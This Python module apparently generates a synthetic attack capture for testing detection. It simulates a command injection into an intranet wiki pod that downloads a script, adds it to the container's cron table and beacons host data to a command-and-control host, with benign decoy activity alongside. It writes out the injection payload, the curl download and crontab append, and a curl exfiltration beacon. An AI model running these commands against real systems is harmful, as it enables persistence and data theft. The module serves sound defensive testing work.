"""Persistence through a file written now and run later: a command injection in the intranet
wiki's PHP (through the ingress) downloads a script into the uploads folder and appends it to the
container's own cron table (supercronic); the attacker's request ends there.  From then on the
wiki's own cron runs the script every three minutes, and each run beacons out of the cluster and
runs what the answer says.

Look-alikes: supercronic runs the wiki's maintenance job every minute (``sh -c php …``), PHP
runs ImageMagick through ``sh -c`` for thumbnails, and the maintenance job fetches an RSS feed
from outside the cluster."""

from __future__ import annotations

from pathlib import Path

from .. import falco as fc
from ..topology import Workload
from . import Scenario
from .kit import (
    MAY_WRITE,
    MS,
    NS,
    add_pod,
    command,
    connect_out,
    every,
    file_hook,
    finish,
    ingress_controller,
    pod_ref,
    run,
    via_ingress,
    world,
)
from .truth import Endpoint, Truth

NAME = "persistence"
DESCRIPTION = ("A command injection in the intranet wiki downloads a script into its uploads "
               "folder and appends it to the container's own cron table; later the wiki's cron "
               "(supercronic) runs it every 3 minutes, and each run beacons out of the cluster.")
DROP = ("203.0.113.150", 80)
C2 = ("203.0.113.151", 8080, "updates.wiki-cdn.net")
FEED = ("104.16.132.229", "status.acme-vendor.com")
SCRIPT = "/var/www/html/images/.thumbs.sh"
CRONTAB = "/etc/supercronic/crontab"


def build(out_dir: Path, seed: int) -> Truth:
    """Write the capture; see the module docstring."""
    w = world(seed, minutes=25)
    rng = w.rng
    sim = w.sim
    wl = Workload("intranet", "wiki", "Deployment", {"app": "wiki"},
                  "docker.io/library/mediawiki:1.41", "/usr/bin/supervisord",
                  "-c /etc/supervisor/supervisord.conf", "wiki", cwd="/var/www/html", uid=33,
                  port=80, serviceaccount="wiki")
    wiki = add_pod(w, wl, w.node(2))
    sup = sim.pod_proc(wiki)
    fpm = sim.exec_(wiki.node, sup.start_ns + NS, "/usr/local/sbin/php-fpm", "--nodaemonize",
                    sup, emit=False, pod=wiki, in_init_tree=True)
    cron = sim.exec_(wiki.node, sup.start_ns + NS, "/usr/local/bin/supercronic",
                     f"-inotify {CRONTAB}", sup, emit=False, pod=wiki, in_init_tree=True)
    _, nginx = ingress_controller(w, w.node(1))
    staff = [f"10.20.{rng.randint(1, 40)}.{rng.randint(2, 250)}" for _ in range(25)]

    # ordinary life: pages, uploads with thumbnails, the maintenance job and its feed
    for t in every(w, 5):
        page = rng.choice(["Main_Page", "Onboarding", "Runbooks/Postgres", "Oncall",
                           "Special:RecentChanges"])
        via_ingress(w, nginx, rng.choice(staff), wiki, 80, t, "GET",
                    f"http://wiki.acme.internal/index.php?title={page}")
    for t in every(w, 200):
        end = via_ingress(w, nginx, rng.choice(staff), wiki, 80, t, "POST",
                          "http://wiki.acme.internal/index.php?title=Special:Upload", 302)
        n = rng.randint(10**5, 10**6)
        sh = run(w, fpm, end - 20 * MS, "/bin/sh",
                 f"-c '/usr/bin/convert' '/var/www/html/images/temp/{n}.png' -resize 180 "
                 f"'/var/www/html/images/thumb/{n}.png'", exit_=False)
        run(w, sh, sh.start_ns + 2 * MS, "/usr/bin/convert",
            f"/var/www/html/images/temp/{n}.png -resize 180 /var/www/html/images/thumb/{n}.png",
            rng.randint(50, 200))
        sim.exit_(sh, sh.start_ns + 260 * MS)
    minute = 60 * NS
    t = w.start - w.start % minute + minute
    while t < w.end:
        ts = t + rng.randint(2, 40) * MS
        sh = run(w, cron, ts, "/bin/sh", "-c php /var/www/html/maintenance/runJobs.php "
                 "--maxjobs 10", exit_=False)
        php = run(w, sh, ts + 2 * MS, "/usr/local/bin/php",
                  "/var/www/html/maintenance/runJobs.php --maxjobs 10", exit_=False)
        end = ts + rng.randint(200, 900) * MS
        if (t // minute) % 10 == 3:
            end = connect_out(w, php, ts + 50 * MS, FEED[0], 443, FEED[1], dur_ms=300)
        sim.exit_(php, end + MS)
        sim.exit_(sh, end + 3 * MS)
        t += minute

    # the injection
    t0 = w.at(6 + rng.random())
    attacker = "10.20.7.199"  # a compromised workstation on the office VPN
    end = via_ingress(w, nginx, attacker, wiki, 80, t0, "GET",
                      "http://wiki.acme.internal/extensions/Graph/render.php?spec=%7B%22url%22%3A"
                      "%22%60curl%20-fsSL%20-o%20images%2F.thumbs.sh%20http%3A%2F%2F203.0.113.150"
                      "%2Ft.sh%60%22%7D", 200, "curl/7.88.1", critical=True)
    sh = run(w, fpm, end - 40 * MS, "/bin/sh",
             f"-c curl -fsSL -o images/.thumbs.sh http://{DROP[0]}/t.sh && chmod +x "
             f"images/.thumbs.sh && echo '*/3 * * * * {SCRIPT}' | tee -a {CRONTAB}",
             exit_=False, critical=True)
    curl = run(w, sh, sh.start_ns + 3 * MS, "/usr/bin/curl",
               f"-fsSL -o images/.thumbs.sh http://{DROP[0]}/t.sh", exit_=False, critical=True)
    cend = connect_out(w, curl, curl.start_ns + MS, DROP[0], DROP[1], dur_ms=200, critical=True)
    file_hook(w, curl, cend - 5 * MS, SCRIPT, MAY_WRITE, critical=True)
    sim.exit_(curl, cend + MS, critical=True)
    chmod = run(w, sh, cend + 3 * MS, "/bin/chmod", "+x images/.thumbs.sh", 1, critical=True)
    tee = run(w, sh, cend + 6 * MS, "/usr/bin/tee", f"-a {CRONTAB}", 2, critical=True)
    file_hook(w, tee, cend + 7 * MS, CRONTAB, MAY_WRITE, critical=True)
    fc.emit_alert(sim.sink, tee, cend + 7 * MS + 10_000, "Schedule Cron Jobs", evt_type="openat",
                  extra={"fd.name": CRONTAB}, critical=True)
    sim.exit_(sh, cend + 12 * MS, critical=True)

    # later: the wiki's own cron runs it every three minutes
    ids = [sh.exec_id, curl.exec_id, chmod.exec_id, tee.exec_id]
    t = cend - cend % (3 * minute) + 3 * minute
    first = True
    while t < w.end:
        ts = t + rng.randint(2, 40) * MS
        csh = run(w, cron, ts, "/bin/sh", f"-c {SCRIPT}", exit_=False, critical=True)
        scr = run(w, csh, ts + 2 * MS, SCRIPT, "", exit_=False, critical=True)
        beacon = run(w, scr, ts + 4 * MS, "/usr/bin/curl",
                     f"-s -m 20 -X POST --data-binary @/etc/hostname http://{C2[2]}:{C2[1]}/u",
                     exit_=False, critical=True)
        bend = connect_out(w, beacon, ts + 5 * MS, C2[0], C2[1], C2[2], dur_ms=600,
                           critical=True)
        sim.exit_(beacon, bend + MS, critical=True)
        ids += [csh.exec_id, scr.exec_id, beacon.exec_id]
        if first:  # the first answer asks for a look around
            for binary, args in (("/bin/uname", "-a"), ("/usr/bin/id", ""),
                                 ("/bin/cat", "/var/www/html/LocalSettings.php")):
                ids.append(run(w, scr, bend + 5 * MS, binary, args, 2, critical=True).exec_id)
                bend += 8 * MS
            first = False
        sim.exit_(scr, bend + 30 * MS, critical=True)
        sim.exit_(csh, bend + 32 * MS, critical=True)
        t += 3 * minute

    return finish(w, out_dir, Truth(
        scenario=NAME, kind="attack", description=DESCRIPTION, seed=seed,
        entry=pod_ref(wiki), key_command=command(tee), reached=[],
        endpoints=[Endpoint(DROP[0], DROP[1], "download"), Endpoint(C2[0], C2[1], "c2", C2[2])],
        techniques=["T1190", "T1059.004", "T1105", "T1053.003", "T1071.001"],
        expected_incidents=1, attacker_exec_ids=ids,
        decoys=["supercronic runs sh -c php runJobs.php every minute",
                "PHP runs sh -c convert for every upload",
                "the maintenance job fetches a feed from outside the cluster"]))


SCENARIO = Scenario(NAME, "attack", DESCRIPTION, build, seed=14)
